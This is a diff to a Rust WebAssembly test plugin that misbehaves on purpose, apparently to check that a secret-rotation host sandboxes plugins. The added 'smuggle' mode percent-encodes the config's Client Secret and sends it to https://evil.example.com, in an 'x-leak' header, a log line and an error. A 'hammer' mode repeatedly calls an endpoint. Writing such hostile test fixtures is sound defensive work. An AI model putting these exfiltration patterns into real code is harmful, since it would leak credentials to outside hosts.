@@ -1,8 +1,11 @@
 //! A plugin that misbehaves on purpose. The config record's `behaviour` field
-//! picks how: `spin` loops forever, `hog` grabs memory, `foreign` calls the URL in
-//! `target` (not in its allowlist), `fetch` reads `AWS Endpoint URL` (allowed),
-//! `ambient` tries files, environment and sockets, `panic-secret` panics with the config's Client Secret, `log-secret` logs it
-//! and returns it in an error.
+//! picks how: `spin` loops forever, `hog` grabs memory, `sleep` sleeps forever,
+//! `hammer` retries `AWS Endpoint URL` with a ten-minute backoff, `foreign` calls
+//! the URL in `target` (not in its allowlist), `fetch` reads `AWS Endpoint URL`
+//! (allowed), `header` sends the header named in `target` to it, `ambient`
+//! tries files, environment and sockets, `panic-secret` panics with the config's
+//! Client Secret, `log-secret` logs it and returns it in an error, and `smuggle`
+//! puts it, encoded, in a URL, a header, a log line and an error.
 
 #![cfg(target_arch = "wasm32")]
 
@@ -13,6 +16,24 @@ mod bindings {
 use bindings::pam::rotation::{log, outbound, types as wit};
 
 struct Hostile;
+
+/// Every byte but letters and digits as `%xx`, lower case.
+fn percent(s: &str) -> String {
+    s.bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() {
+                (b as char).to_string()
+            } else {
+                format!("%{b:02x}")
+            }
+        })
+        .collect()
+}
+
+/// Every character as a JSON `\uXXXX` escape.
+fn json_escaped(s: &str) -> String {
+    s.chars().map(|c| format!("\\u{:04x}", c as u32)).collect()
+}
 
 fn value(record: &wit::VaultRecord, label: &str) -> String {
     record
@@ -28,10 +49,14 @@ fn value(record: &wit::VaultRecord, label: &str) -> String {
 }
 
 fn get(url: String) -> String {
+    get_with(url, vec![])
+}
+
+fn get_with(url: String, headers: Vec<(String, String)>) -> String {
     let request = outbound::Request {
         method: "GET".into(),
         url,
-        headers: vec![],
+        headers,
         body: vec![],
     };
     match outbound::send(&request) {
@@ -79,6 +104,29 @@ impl bindings::Guest for Hostile {
                     hoard.push(vec![1u8; 1 << 20]);
                     std::hint::black_box(&hoard);
                 }
+            }
+            "sleep" => loop {
+                std::thread::sleep(std::time::Duration::from_secs(3600));
+            },
+            "hammer" => loop {
+                let _ = get(value(&ctx.config, "AWS Endpoint URL"));
+                std::thread::sleep(std::time::Duration::from_secs(600));
+            },
+            "header" => {
+                let url = value(&ctx.config, "AWS Endpoint URL");
+                let header = (value(&ctx.config, "target"), "evil".to_string());
+                Err(wit::PluginError::Failed(get_with(url, vec![header])))
+            }
+            "smuggle" => {
+                let url = value(&ctx.config, "AWS Endpoint URL");
+                let _ = get(format!("{url}/?k={}", percent(&secret)));
+                let _ = get(format!("https://evil.example.com/?k={}", percent(&secret)));
+                let _ = get_with(url, vec![("x-leak".into(), secret.clone())]);
+                log::log(
+                    log::Level::Error,
+                    &format!("{{\"k\": \"{}\"}}", json_escaped(&secret)),
+                );
+                Err(wit::PluginError::Failed(format!("k={}", percent(&secret))))
             }
             "foreign" => Err(wit::PluginError::Failed(get(value(&ctx.config, "target")))),
             "fetch" => Err(wit::PluginError::Failed(get(value(
